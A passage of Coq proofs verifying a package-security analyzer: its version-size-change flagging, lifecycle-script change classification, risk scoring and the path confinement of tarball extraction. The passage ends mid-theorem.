  NoDup (keys o) -> In e o -> getProp o (fst e) = Some (snd e).
Proof.
  induction o as [| [k' v'] t IH]; cbn [getProp keys map fst]; [intros _ [] |].
  intros Hnd [<- | Hin]; cbn [fst snd].
  - now rewrite String.eqb_refl.
  - apply NoDup_cons in Hnd as [Hk Hnd].
    destruct (String.eqb_spec (fst e) k') as [Heq | Hne].
    + exfalso. apply Hk. rewrite <- Heq. apply list_elem_of_In.
      unfold keys. apply in_map. exact Hin.
    + now apply IH.
Qed.

Lemma In_keys {V} (o : list (string * V)) (e : string * V) :
  In e o -> In (fst e) (keys o).
Proof. apply in_map. Qed.

(** X12.  [_compareVersionMetadata] flags a size change exactly when both
    unpacked sizes are positive and the new size exceeds the old one by more
    than the threshold; an absent or zero size is never flagged.  A flagged
    change records both sizes and is of high severity exactly when the size
    more than doubled. *)
Theorem size_change_flagged_iff (rule : Rule) (prevMetadata currMetadata : PackageData) :
  let prevSize := sizeOrZero (unpackedSize prevMetadata) in
  let currSize := sizeOrZero (unpackedSize currMetadata) in
  let changes :=
    _compareVersionMetadata extractLifecycleScripts normalizeScript
      extractDependencies rule prevMetadata currMetadata in
  (sizeChange changes <> None <->
     0 < prevSize /\ 0 < currSize /\
     (1 + sizeIncreaseThreshold rule) * prevSize < currSize) /\
  (forall sc, sizeChange changes = Some sc ->
     previous sc = prevSize /\ current sc = currSize /\
     (severity sc = SeverityHigh <-> 2 * prevSize < currSize)).
Proof.
  intros prevSize currSize changes. subst changes.
  unfold _compareVersionMetadata. cbv zeta. cbn [sizeChange].
  fold prevSize currSize.
  destruct (Qltb 0 prevSize) eqn:Hp; cbn [andb].
  2:{ apply Qltb_ge in Hp. split; [| discriminate].
      split; [congruence |]. intros (H & _). lra. }
  apply Qltb_lt in Hp.
  destruct (Qltb 0 currSize) eqn:Hc; cbn [andb].
  2:{ apply Qltb_ge in Hc. split; [| discriminate].
      split; [congruence |]. intros (_ & H & _). lra. }
  apply Qltb_lt in Hc.
  destruct (Qltb (sizeIncreaseThreshold rule) ((currSize - prevSize) / prevSize)) eqn:Ht.
  - apply Qltb_lt, (Qlt_div_iff _ _ _ Hp) in Ht. split.
    + split; [intros _ | discriminate]. repeat apply conj; [assumption .. |]. lra.
    + intros sc [= <-]. cbn. split; [reflexivity | split; [reflexivity |]].
      destruct (Qltb 1 ((currSize - prevSize) / prevSize)) eqn:Hs.
      * apply Qltb_lt, (Qlt_div_iff _ _ _ Hp) in Hs. split; [intros _; lra | reflexivity].
      * apply Qltb_ge in Hs. split; [discriminate |]. intros Hd. exfalso.
        apply (Qlt_not_le 1 ((currSize - prevSize) / prevSize)); [| exact Hs].
        apply (Qlt_div_iff _ _ _ Hp). lra.
  - apply Qltb_ge in Ht. split; [| discriminate].
    split; [congruence |]. intros (_ & _ & H). exfalso.
    apply (Qlt_not_le (sizeIncreaseThreshold rule) ((currSize - prevSize) / prevSize));
      [| exact Ht].
    apply (Qlt_div_iff _ _ _ Hp). lra.
Qed.

Lemma filter_none {A} (P : A -> Prop) `{!forall x, Decision (P x)} (l : list A) :
  (forall x, In x l -> ~ P x) -> filter P l = [].
Proof.
  induction l as [| x t IH]; intros Hall; [reflexivity |].
  rewrite filter_cons. destruct (decide (P x)) as [Hx | _].
  - exfalso. apply (Hall x); [now left | exact Hx].
  - apply IH. intros y Hy. apply Hall. now right.
Qed.

Lemma omap_none {A B} (f : A -> option B) (l : list A) :
  (forall x, In x l -> f x = None) -> omap f l = [].
Proof.
  induction l as [| x t IH]; intros H; [reflexivity |].
  cbn. rewrite (H x) by now left. apply IH. intros y Hy. apply H. now right.
Qed.

Lemma detectScriptChanges_same (scripts : StringMap) :
  NoDup (keys scripts) ->
  hasChanges (_detectScriptChanges normalizeScript scripts scripts) = false.
Proof.
  intros Hnd. unfold _detectScriptChanges, StringMap in *. cbv zeta. cbn [hasChanges].
  rewrite (filter_none _ scripts).
  2:{ intros e He Hf. apply includes_not_In in Hf. apply Hf. now apply In_keys. }
  rewrite omap_none; [reflexivity |].
  intros e He. rewrite (getProp_NoDup scripts e Hnd He).
  now rewrite String.eqb_refl.
Qed.

Lemma detectDependencyChanges_same (deps : DepType -> option StringMap) :
  hasSignificantChanges (_detectDependencyChanges deps deps) = false.
Proof.
  unfold _detectDependencyChanges, StringMap in *. cbv zeta. cbn [hasSignificantChanges].
  assert (H : forall t,
             filter (fun e : string * string =>
                       includes (keys (orEmpty (deps t))) (fst e) = false)
                    (orEmpty (deps t)) = []).
  { intros t. apply filter_none. intros e He Hf.
    apply includes_not_In in Hf. apply Hf. now apply In_keys. }
  unfold depTypes. cbn [map concat]. unfold StringMap in *. rewrite !H. reflexivity.
Qed.

(** X13.  Two consecutive versions with the same metadata give no finding:
    with a non-negative size threshold and hook names that are distinct (as
    the keys of an object are), [_compareVersionMetadata] of a snapshot with
    itself reports no issue at all. *)
Theorem unchanged_metadata_no_issues (rule : Rule) (metadata : PackageData) :
  0 <= sizeIncreaseThreshold rule ->
  NoDup (keys (extractLifecycleScripts metadata)) ->
  _compareVersionMetadata extractLifecycleScripts normalizeScript
    extractDependencies rule metadata metadata
  = {| hasIssues := false; sizeChange := None; scriptChanges := None;
       dependencyChanges := None |}.
Proof.
  intros Ht Hnd.
  unfold _compareVersionMetadata. cbv zeta.
  rewrite (detectScriptChanges_same _ Hnd), detectDependencyChanges_same.
  destruct (Qltb 0 (sizeOrZero (unpackedSize metadata))) eqn:Hp; cbn [andb];
    [| reflexivity].
  apply Qltb_lt in Hp.
  destruct (Qltb (sizeIncreaseThreshold rule) _) eqn:Hs; [| reflexivity].
  exfalso. apply Qltb_lt, (Qlt_div_iff _ _ _ Hp) in Hs. nra.
Qed.
End ChangeFacts.

Section ScriptChangeFacts.
Import JS Regex Model UpdateBehaviorRule UpdateSpec.
Variable normalizeScript : string -> string.

(** X14.  What [_detectScriptChanges] files where: an added hook belongs to
    the new scripts only, a removed hook to the old ones only, a modified
    hook to both with different normalised text; every newly suspicious
    script matches a suspicious pattern and names a hook of the new scripts,
    and there are no more of them than added and modified hooks together.
    No change is flagged exactly when the three lists are empty. *)
Theorem detectScriptChanges_classifies (prevScripts currScripts : StringMap) :
  let changes := _detectScriptChanges normalizeScript prevScripts currScripts in
  Forall (fun e => In e currScripts /\ ~ In (fst e) (keys prevScripts))
         (added changes) /\
  Forall (fun e => In e prevScripts /\ ~ In (fst e) (keys currScripts))
         (removed changes) /\
  Forall (fun m => In (fst (fst m)) (keys prevScripts) /\
                   In (fst (fst m)) (keys currScripts) /\
                   snd (fst m) <> snd m)
         (modified changes) /\
  Forall (fun e => _isSuspiciousScript (snd e) = true /\
                   In (fst e) (keys currScripts))
         (newSuspiciousScripts changes) /\
  (length (newSuspiciousScripts changes)
   <= length (added changes) + length (modified changes))%nat /\
  (hasChanges changes = false <->
   added changes = [] /\ removed changes = [] /\ modified changes = []).
Proof.
  intros changes. subst changes. unfold _detectScriptChanges, StringMap in *.
  cbv zeta. cbn [added removed modified newSuspiciousScripts hasChanges].
  set (addedL := filter (fun e : string * string =>
                           includes (keys prevScripts) (fst e) = false) currScripts).
  set (removedL := filter (fun e : string * string =>
                             includes (keys currScripts) (fst e) = false) prevScripts).
  set (common := omap _ prevScripts).
  assert (Hadded : forall e, e ∈ addedL ->
                     In e currScripts /\ ~ In (fst e) (keys prevScripts)).
  { intros e He. apply list_elem_of_filter in He as [Hf He].
    split; [now apply list_elem_of_In | now apply includes_not_In]. }
  assert (Hcommon : forall m, m ∈ common ->
                      In (fst (fst m)) (keys prevScripts) /\
                      In (fst (fst m)) (keys currScripts) /\
                      snd (fst m) <> snd m).
  { intros m Hm. apply list_elem_of_omap in Hm as (e & He & Hf).
    apply list_elem_of_In in He.
    destruct (getProp currScripts (fst e)) as [curr |] eqn:Hget; [| discriminate].
    destruct (String.eqb_spec (normalizeScript (snd e)) (normalizeScript curr))
      as [| Hne]; [discriminate |].
    injection Hf as <-. cbn [fst snd]. repeat apply conj.
    - now apply In_keys.
    - apply getProp_In, In_keys in Hget. exact Hget.
    - exact Hne. }
  repeat apply conj.
  - apply Forall_forall. exact Hadded.
  - apply Forall_forall. intros e He. apply list_elem_of_filter in He as [Hf He].
    split; [now apply list_elem_of_In | now apply includes_not_In].
  - apply Forall_forall. exact Hcommon.
  - apply Forall_app. split; apply Forall_forall.
    + intros e He. apply list_elem_of_filter in He as [Hs He].
      split; [exact Hs |]. apply Hadded in He as [He _]. now apply In_keys.
    + intros e He. apply list_elem_of_omap in He as ([[hook prevScript] currScript] & Hm & Hf).
      destruct (negb (_isSuspiciousScript prevScript) && _isSuspiciousScript currScript)
        eqn:Hs; [| discriminate].
      injection Hf as <-. apply andb_prop in Hs as [_ Hs].
      split; [exact Hs |]. apply Hcommon in Hm as (_ & Hm & _). exact Hm.
  - rewrite length_app.
    pose proof (length_filter (fun e : string * string => _isSuspiciousScript (snd e) = true)
                  addedL) as H1.
    assert (H2 : forall {A B} (f : A -> option B) (l : list A),
               (length (omap f l) <= length l)%nat).
    { intros A B f l. induction l as [| x t IH]; [reflexivity |].
      cbn. destruct (f x); cbn [length]; lia. }
    specialize (H2 _ _ (fun m : string * string * string =>
                          let '(hook, prevScript, currScript) := m in
                          if negb (_isSuspiciousScript prevScript)
                             && _isSuspiciousScript currScript
                          then Some (hook, currScript) else None) common).
    lia.
  - intros H. apply orb_false_elim in H as [H H3]. apply orb_false_elim in H as [H1 H2].
    apply negb_false_iff, Nat.eqb_eq in H1, H2, H3.
    repeat apply conj; now apply length_zero_iff_nil.
  - intros (-> & -> & ->). reflexivity.
Qed.
End ScriptChangeFacts.

Section ChangeWitnesses.
Import JS Regex Model UpdateBehaviorRule UpdateSpec Examples UpdateExamples.
Local Open Scope Q_scope.

(** The default rule on a snapshot with two scripts and a size. *)
Lemma unchanged_metadata_no_issues_witness :
  hasIssues
    (_compareVersionMetadata extractLifecycleScripts normalizeScript
       extractDependencies (defaultRule (Return None))
       (packageWith (Some TestInputs.safeScripts))
       (packageWith (Some TestInputs.safeScripts))) = false.
Proof.
  rewrite (unchanged_metadata_no_issues extractLifecycleScripts normalizeScript
             extractDependencies (defaultRule (Return None))
             (packageWith (Some TestInputs.safeScripts))).
  - reflexivity.
  - discriminate.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
Defined.
End ChangeWitnesses.

(** ** Update-behaviour rule: analysis and result *)

Section AnalysisFacts.
Import JS Regex Model UpdateBehaviorRule UpdateSpec.
Local Open Scope Q_scope.
Variable extractLifecycleScripts : PackageData -> StringMap.
Variable normalizeScript : string -> string.
Variable extractDependencies : PackageData -> DepType -> option StringMap.
Variable localeCompare : string -> string -> Z.

Lemma change_finding_counts (rule : Rule) (pm vm : PackageData) (pv v : string) :
  hasIssues (_compareVersionMetadata extractLifecycleScripts normalizeScript extractDependencies rule pm vm) = true ->
  counts (ChangeFinding pv v (_compareVersionMetadata extractLifecycleScripts normalizeScript extractDependencies rule pm vm)).
Proof.
  unfold counts, _compareVersionMetadata. cbv zeta.
  cbn [hasIssues findingRisk sizeChange scriptChanges dependencyChanges].
  generalize (_detectScriptChanges normalizeScript (extractLifecycleScripts pm)
                (extractLifecycleScripts vm)) as sc.
  generalize (_detectDependencyChanges (extractDependencies pm)
                (extractDependencies vm)) as dc.
  intros dc sc.
  destruct (Qltb 0 (sizeOrZero (unpackedSize pm)) && Qltb 0 (sizeOrZero (unpackedSize vm))
            && Qltb (sizeIncreaseThreshold rule) _) eqn:Hsize.
  - intros _. cbn [severity].
    destruct (Qltb 1 _);
      destruct (hasChanges sc) eqn:Hsc;
      try destruct (0 <? length (newSuspiciousScripts sc))%nat;
      rewrite ?Hsc; destruct (hasSignificantChanges dc) eqn:Hdc; rewrite ?Hdc;
      cbn [fst]; lia.
  - destruct (hasChanges sc) eqn:Hsc.
    + intros _.
      destruct (Nat.ltb_spec 0 (length (newSuspiciousScripts sc))); rewrite ?Hsc;
        destruct (hasSignificantChanges dc) eqn:Hdc; rewrite ?Hdc; cbn [fst]; lia.
    + destruct (hasSignificantChanges dc) eqn:Hdc; [| discriminate].
      intros _. rewrite Hdc. cbn [fst]. lia.
Qed.

Lemma diffStep_counts (rule : Rule) (versionHistory : VersionHistory)
    (st : list Finding * option string * option PackageData) (version : string) :
  Forall counts (fst (fst st)) ->
  Forall counts (fst (fst (diffStep extractLifecycleScripts normalizeScript
                             extractDependencies rule versionHistory st version))) /\
  (length (fst (fst (diffStep extractLifecycleScripts normalizeScript
                       extractDependencies rule versionHistory st version)))
   <= S (length (fst (fst st))))%nat /\
  (snd (fst st) = None ->
   length (fst (fst (diffStep extractLifecycleScripts normalizeScript
                       extractDependencies rule versionHistory st version)))
   = length (fst (fst st))).
Proof.
  destruct st as [[found pv] pm]. unfold diffStep. cbn [fst snd]. intros Hfound.
  destruct (getProp versionHistory version) as [[vm |] |]; cbn [fst snd];
    [| repeat apply conj; auto .. ].
  destruct pv as [pv |], pm as [pm |]; cbn [fst snd];
    [| repeat apply conj; auto; discriminate .. ].
  destruct (truthy pv); [| repeat apply conj; auto; discriminate].
  destruct (hasIssues (_compareVersionMetadata extractLifecycleScripts normalizeScript extractDependencies rule pm vm)) eqn:Hissues;
    [| repeat apply conj; auto; discriminate].
  repeat apply conj.
  - apply Forall_app. split; [exact Hfound |].
    apply Forall_cons. split; [| apply Forall_nil_2]. now apply change_finding_counts.
  - rewrite length_app. cbn [length]. lia.
  - discriminate.
Qed.

Lemma fold_diffStep_counts (rule : Rule) (versionHistory : VersionHistory)
    (window : list string) (st : list Finding * option string * option PackageData) :
  Forall counts (fst (fst st)) ->
  Forall counts
    (fst (fst (fold_left (diffStep extractLifecycleScripts normalizeScript
                            extractDependencies rule versionHistory) window st))) /\
  (length (fst (fst (fold_left (diffStep extractLifecycleScripts normalizeScript
                                  extractDependencies rule versionHistory) window st)))
   <= length (fst (fst st)) + length window)%nat.
Proof.
  revert st. induction window as [| v window IH]; intros st Hst; cbn [fold_left length].
  - split; [exact Hst | lia].
  - destruct (diffStep_counts rule versionHistory st v Hst) as (H1 & H2 & _).
    destruct (IH _ H1) as [H3 H4]. split; [exact H3 | lia].
Qed.

Lemma slice_length_le {A} (l : list A) (start : Z) (stop : option Z) :
  (length (slice l start stop) <= length l)%nat.
Proof. unfold slice. rewrite length_take, length_drop. lia. Qed.

Lemma versionsToAnalyze_length (rule : Rule) (currentPackage : PackageData)
    (versionHistory : VersionHistory) :
  (length (versionsToAnalyze rule currentPackage versionHistory)
   <= length (keys versionHistory))%nat.
Proof.
  unfold versionsToAnalyze.
  rewrite <- (sortBy_length defaultCompare (keys versionHistory)).
  fold (sortDefault (keys versionHistory)). fold (sortedVersions versionHistory).
  set (recent := slice (sortedVersions versionHistory) _ None).
  assert (Hrecent : (length recent <= length (sortedVersions versionHistory))%nat)
    by apply slice_length_le.
  destruct (0 <=? _)%Z.
  - etransitivity; [apply slice_length_le | exact Hrecent].
  - etransitivity; [apply slice_length_le | exact Hrecent].
Qed.

Lemma riskScore_counts (l : list Finding) (acc : nat) :
  Forall counts l ->
  (acc + length l
   <= fold_left (fun acc f => (acc + fst (findingRisk f))%nat) l acc)%nat.
Proof.
  revert acc. induction l as [| f l IH]; intros acc Hl; cbn [fold_left length]; [lia |].
  apply Forall_cons in Hl as [Hf Hl]. specialize (IH (acc + fst (findingRisk f))%nat Hl).
  unfold counts in Hf. lia.
Qed.

Lemma analysis_findings (rule : Rule) (currentPackage : PackageData)
    (versionHistory : VersionHistory) :
  Forall counts (findings (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory)) /\
  hasSuspiciousChanges (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory)
  = negb (length (findings (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory)) =? 0)%nat /\
  versionsAnalyzed (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory)
  = length (versionsToAnalyze rule currentPackage versionHistory) /\
  totalVersions (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory)
  = length (keys versionHistory) /\
  (length (findings (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory))
   <= length (versionsToAnalyze rule currentPackage versionHistory)
      + pred (length (keys versionHistory)))%nat.
Proof.
  unfold _analyzeVersionChanges. cbv zeta.
  pose proof (fold_diffStep_counts rule versionHistory
                (versionsToAnalyze rule currentPackage versionHistory)
                ([], None, None) (Forall_nil_2 _)) as [Hc Hl].
  destruct (fold_left _ _ _) as [[found pv] pm]. cbn [fst snd length] in Hc, Hl.
  cbn [findings hasSuspiciousChanges versionsAnalyzed totalVersions].
  repeat apply conj.
  - apply Forall_app. split; [exact Hc |].
    apply Forall_forall. intros f Hf. apply list_elem_of_fmap in Hf as (j & -> & _).
    unfold counts. cbn. lia.
  - reflexivity.
  - reflexivity.
  - unfold sortedVersions, sortDefault. apply sortBy_length.
  - rewrite length_app, length_map.
    pose proof (jumpsOf_length rule
                  (sortBy (_compareVersionStrings localeCompare)
                     (sortedVersions versionHistory))) as Hj.
    assert (Hsv : length (sortedVersions versionHistory) = length (keys versionHistory))
      by apply sortBy_length.
    rewrite sortBy_length, Hsv in Hj. unfold _detectVersionJumps. lia.
Qed.

Lemma calculateRisk_bounds (rule : Rule) (analysis : Analysis) :
  0 <= weight (base rule) ->
  0 <= fst (_calculateRisk rule analysis) /\
  fst (_calculateRisk rule analysis) <= weight (base rule) /\
  snd (_calculateRisk rule analysis) <> RiskError /\
  (snd (_calculateRisk rule analysis) = RiskHigh ->
   fst (_calculateRisk rule analysis) = weight (base rule)).
Proof.
  intros Hw. unfold _calculateRisk.
  destruct (negb (hasSuspiciousChanges analysis) || (length (findings analysis) =? 0)%nat).
  { cbn [fst snd]. repeat apply conj; [lra | exact Hw | discriminate | discriminate]. }
  cbv zeta.
  destruct (existsb _ (findings analysis) || (5 <=? _)%nat).
  { cbn [fst snd]. repeat apply conj; [exact Hw | lra | discriminate | reflexivity]. }
  destruct (3 <=? _)%nat.
  { cbn [fst snd]. destruct (mathFloor_bounds (weight (base rule) * 0.75)) as [H1 H2]; [lra |].
    repeat apply conj; [exact H1 | lra | discriminate | discriminate]. }
  destruct (1 <=? _)%nat.
  { cbn [fst snd]. destruct (mathFloor_bounds (weight (base rule) * 0.5)) as [H1 H2]; [lra |].
    repeat apply conj; [exact H1 | lra | discriminate | discriminate]. }
  cbn [fst snd]. repeat apply conj; [lra | exact Hw | discriminate | discriminate].
Qed.

Lemma calculateRisk_none_iff (rule : Rule) (analysis : Analysis) :
  Forall counts (findings analysis) ->
  hasSuspiciousChanges analysis = negb (length (findings analysis) =? 0)%nat ->
  (snd (_calculateRisk rule analysis) = RiskNone <-> findings analysis = []).
Proof.
  intros Hc Hs. unfold _calculateRisk. rewrite Hs.
  destruct (findings analysis) as [| f l] eqn:Hf.
  { cbn. split; reflexivity. }
  cbn [length Nat.eqb negb orb]. cbv zeta.
  pose proof (riskScore_counts (f :: l) 0 Hc) as Hscore. cbn [length] in Hscore.
  destruct (existsb _ (f :: l) || (5 <=? _)%nat); [cbn; split; discriminate |].
  destruct (3 <=? _)%nat; [cbn; split; discriminate |].
  destruct (Nat.leb_spec 1
              (fold_left (fun acc f0 => (acc + fst (findingRisk f0))%nat) (f :: l) 0%nat));
    [cbn; split; discriminate | lia].
Qed.

(** X15.  The report of [_analyzeVersionChanges]: every finding it lists
    adds at least one to the risk score, so the risk level of
    [_calculateRisk] is none exactly when there is no finding; the flag for
    suspicious changes says whether there is one; and the versions analysed
    are no more than the versions of the history, which are all counted. *)
Theorem analyzeVersionChanges_report (rule : Rule) (currentPackage : PackageData)
    (versionHistory : VersionHistory) :
  let analysis := _analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule currentPackage versionHistory in
  Forall (fun f => (1 <= fst (findingRisk f))%nat) (findings analysis) /\
  (snd (_calculateRisk rule analysis) = RiskNone <-> findings analysis = []) /\
  (hasSuspiciousChanges analysis = true <-> findings analysis <> []) /\
  (versionsAnalyzed analysis <= totalVersions analysis)%nat /\
  totalVersions analysis = length (keys versionHistory) /\
  (length (findings analysis)
   <= versionsAnalyzed analysis + pred (totalVersions analysis))%nat.
Proof.
  intros analysis.
  destruct (analysis_findings rule currentPackage versionHistory)
    as (Hc & Hs & Hv & Ht & Hl).
  fold analysis in Hc, Hs, Hv, Ht, Hl.
  split; [exact Hc |].
  split; [now apply calculateRisk_none_iff |].
  split.
  { rewrite Hs. destruct (findings analysis); cbn; split; congruence. }
  split.
  { rewrite Hv, Ht. apply versionsToAnalyze_length. }
  split; [exact Ht |].
  rewrite Hv, Ht. exact Hl.
Qed.

(** X16.  The result of [evaluate] for every input: with a non-negative
    weight the deduction lies between 0 and the weight, the risk level is
    never the error level, and a high level carries the full weight.  A
    result that gives a reason has no deduction and level none; a result
    with an analysis has level none exactly when the analysis has no
    finding, and it reports at least two versions, of which it analysed no
    more than there are. *)
Theorem update_evaluate_result (rule : Rule) (packageData : option PackageData) :
  0 <= weight (base rule) ->
  let result := evaluate extractLifecycleScripts normalizeScript
                  extractDependencies localeCompare rule packageData in
  0 <= deduction result /\ deduction result <= weight (base rule) /\
  riskLevel result <> RiskError /\
  (riskLevel result = RiskHigh -> deduction result = weight (base rule)) /\
  match details result with
  | Reason _ _ => deduction result = 0 /\ riskLevel result = RiskNone
  | Analysed analysis versionCount analyzedVersions =>
      (riskLevel result = RiskNone <-> findings analysis = []) /\
      (2 <= versionCount)%nat /\ (analyzedVersions <= versionCount)%nat
  end.
Proof.
  intros Hw result. subst result.
  assert (Hreason : forall reason error,
    let r := {| deduction := 0; details := Reason reason error; riskLevel := RiskNone |} in
    0 <= deduction r /\ deduction r <= weight (base rule) /\
    riskLevel r <> RiskError /\
    (riskLevel r = RiskHigh -> deduction r = weight (base rule)) /\
    match details r with
    | Reason _ _ => deduction r = 0 /\ riskLevel r = RiskNone
    | Analysed analysis versionCount analyzedVersions =>
        (riskLevel r = RiskNone <-> findings analysis = []) /\
        (2 <= versionCount)%nat /\ (analyzedVersions <= versionCount)%nat
    end).
  { intros reason error r. subst r. cbn [deduction riskLevel details].
    repeat apply conj; first [reflexivity | discriminate | exact Hw | lra]. }
  unfold evaluate.
  destruct (negb (isEnabled (base rule))); [apply Hreason |].
  destruct packageData as [packageData |]; [| apply Hreason].
  destruct (orElse (name packageData) None) as [packageName |]; [| apply Hreason].
  unfold evaluateBody, bind.
  destruct (_fetchVersionHistory rule packageName) as [[history |] | message];
    [| apply Hreason | apply Hreason].
  destruct (Nat.ltb_spec (length (keys history)) 2) as [Hfew | Hmany]; [apply Hreason |].
  destruct (calculateRisk_bounds rule (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule packageData history) Hw)
    as (H1 & H2 & H3 & H4).
  destruct (analysis_findings rule packageData history) as (Hc & Hs & Hv & _ & _).
  pose proof (calculateRisk_none_iff rule _ Hc Hs) as Hnone.
  destruct (_calculateRisk rule (_analyzeVersionChanges extractLifecycleScripts normalizeScript extractDependencies localeCompare rule packageData history))
    as [d level]. cbn [fst snd] in *. cbn [deduction riskLevel details].
  repeat apply conj; try assumption.
  - apply Hnone.
  - apply Hnone.
  - rewrite Hv. apply versionsToAnalyze_length.
Qed.
End AnalysisFacts.

Section AnalysisWitnesses.
Import JS Regex Model UpdateBehaviorRule UpdateSpec Examples UpdateExamples.
Local Open Scope Q_scope.

(** The default rule, weight 10, on a history with a size spike and a new
    download script. *)
Lemma update_evaluate_result_witness :
  0 <= deduction (run (defaultRule (Return (Some TestInputs.spikeAndScript)))
                      (Some (snapshotOf "1.1.0"))) /\
  deduction (run (defaultRule (Return (Some TestInputs.spikeAndScript)))
                 (Some (snapshotOf "1.1.0"))) <= 10.
Proof.
  unfold run.
  destruct (update_evaluate_result extractLifecycleScripts normalizeScript
              extractDependencies localeCompare
              (defaultRule (Return (Some TestInputs.spikeAndScript)))
              (Some (snapshotOf "1.1.0"))) as (H1 & H2 & _).
  - discriminate.
  - split; [exact H1 | exact H2].
Defined.
End AnalysisWitnesses.

(** ** Rational comparisons *)

Section ComparisonFacts.
Local Open Scope Q_scope.

Lemma Qle_bool_false (a b : Q) : Qle_bool a b = false -> b < a.
Proof.
  intros E. apply Qnot_le_lt. intros H. apply Qle_bool_iff in H. congruence.
Qed.
End ComparisonFacts.

(** ** Tarball analyzer: extraction and outcome *)

Section TarballExtractionFacts.
Import JS Path TarballAnalyzer.

Variable Analysis : Type.
Variable fs_mkdir : string -> World -> World * outcome unit.
Variable fs_write : string -> World -> World * WriteEnd.
Variable download : string -> string -> World -> World * settlement unit.
Variable archive : string -> World -> list Header * ArchiveEnd.
Variable contents : string -> World -> Analysis.

Lemma startsWith_refl (p : string) : startsWith p p = true.
Proof.
  unfold startsWith. induction p as [| c p IH]; [reflexivity |].
  cbn. destruct (ascii_dec c c); [exact IH | contradiction].
Qed.

Lemma entryAction_prefix (extractPath : string) (header : Header) (p : string) :
  entryAction extractPath header = MakeDirectory p \/
  entryAction extractPath header = WriteFile p ->
  p = join [extractPath; entryName header] /\ startsWith p extractPath = true.
Proof.
  unfold entryAction.
  destruct (startsWith (join [extractPath; entryName header]) extractPath) eqn:Hs;
    cbn [negb]; [| intros [H | H]; discriminate].
  destruct (entryType header); intros [H | H]; try discriminate;
    injection H as <-; split; [reflexivity | exact Hs | reflexivity | exact Hs].
Qed.

(** What holds of the file system before the entries and is kept by every
    [mkdir] and every write under the prefix holds after them. *)
Lemma handleEntries_keeps (kept : World -> Prop) (extractPath : string) :
  (forall p w, startsWith p extractPath = true -> kept w -> kept (fst (fs_mkdir p w))) ->
  (forall p w, startsWith p extractPath = true -> kept w -> kept (fst (fs_write p w))) ->
  forall entries w,
    kept w -> kept (fst (handleEntries fs_mkdir fs_write extractPath entries w)).
Proof.
  intros Hmkdir Hwrite entries.
  induction entries as [| header entries IH]; intros w Hw; cbn [handleEntries];
    [exact Hw |].
  assert (Hstep : kept (fst (handleEntry fs_mkdir fs_write extractPath w header))).
  { unfold handleEntry.
    destruct (entryAction extractPath header) as [| p | p |] eqn:Haction;
      cbn [fst]; try exact Hw.
    - destruct (entryAction_prefix extractPath header p (or_introl Haction)) as [_ Hp].
      specialize (Hmkdir p w Hp Hw).
      destruct (fs_mkdir p w) as [w' [[] | e]]; exact Hmkdir.
    - destruct (entryAction_prefix extractPath header p (or_intror Haction)) as [_ Hp].
      specialize (Hwrite p w Hp Hw).
      destruct (fs_write p w) as [w' [| | e]]; exact Hwrite. }
  destruct (handleEntry fs_mkdir fs_write extractPath w header) as [w' [| | e]];
    cbn [fst] in *; [apply IH, Hstep | exact Hstep | exact Hstep].
Qed.

(** X19.  [_extractTarball] touches the file system only through [mkdir]
    and through writes at paths that start with the extraction path:
    whatever holds of the file system before the call and is kept by every
    such [mkdir] and write still holds after it, for every archive and
    however the call ends.  The call resolves only when the directory was
    made and the archive stream finished; when making the directory rejects,
    the call rejects with that error before any entry is handled. *)
Theorem extractTarball_effect (kept : World -> Prop)
    (tarballPath extractPath : string) (w : World) :
  (forall p w', startsWith p extractPath = true -> kept w' ->
                kept (fst (fs_mkdir p w'))) ->
  (forall p w', startsWith p extractPath = true -> kept w' ->
                kept (fst (fs_write p w'))) ->
  kept w ->
  let made := fs_mkdir extractPath w in
  let run := _extractTarball fs_mkdir fs_write archive tarballPath extractPath w in
  kept (fst run) /\
  (snd run = Settled (Return tt) ->
   snd made = Return tt /\ snd (archive tarballPath (fst made)) = Finished) /\
  (forall e, snd made = Throw e -> run = (fst made, Settled (Throw e))).
Proof.
  intros Hmkdir Hwrite Hw. cbv zeta. unfold _extractTarball.
  pose proof (Hmkdir extractPath w (startsWith_refl extractPath) Hw) as Hmade.
  destruct (fs_mkdir extractPath w) as [w1 [[] | e]]; cbn [fst snd] in *.
  2:{ split; [exact Hmade |]. split; [discriminate |]. intros e' [= <-]. reflexivity. }
  destruct (archive tarballPath w1) as [entries ending]. cbn [fst snd].
  pose proof (handleEntries_keeps kept extractPath Hmkdir Hwrite entries w1 Hmade)
    as Hkept.
  destruct (handleEntries fs_mkdir fs_write extractPath entries w1)
    as [w2 [| | e]]; cbn [fst] in Hkept.
  - destruct ending as [| e |]; cbn [fst snd];
      (split; [exact Hkept |]); (split; [| discriminate]);
      first [intros _; split; reflexivity | discriminate].
  - cbn [fst snd]. split; [exact Hkept |]. split; discriminate.
  - cbn [fst snd]. split; [exact Hkept |]. split; discriminate.
Qed.

Lemma cleanup_subseteq (rmError : string -> World -> option string)
    (tempPath : string) (fr : Frame) :
  world (fst (cleanup rmError tempPath fr)) ⊆ world fr.
Proof.
  unfold cleanup, ignoringErrors, bindM, onWorld, fs_rm, ret, settled.
  destruct (extractedPath fr) as [p |]; [destruct (truthy p) |]; cbn [world fst snd];
    repeat match goal with
           | |- context [rmError ?q ?w'] => destruct (rmError q w'); cbn [world fst snd]
           end;
    try reflexivity;
    repeat (etransitivity; [apply removeTree_subseteq |]); reflexivity.
Qed.

(** X20.  The outcome of [analyzeTarball] never comes from the cleanup: for
    every behaviour of the removals it is the outcome of the [try] block (or
    the missing-URL error), so a removal that fails is never reported; and
    the cleanup creates nothing, the file system at the end holding only
    paths the [try] block left. *)
Theorem analyzeTarball_outcome_from_try_block
    (rmError : string -> World -> option string)
    (this : Analyzer) (tarballUrl packageName : string) (w : World) :
  let run := analyzeTarball Analysis fs_mkdir fs_write download archive contents
               rmError this tarballUrl packageName w in
  let body := tryBlock Analysis fs_mkdir fs_write download archive contents
                tarballUrl (tempPathOf this packageName)
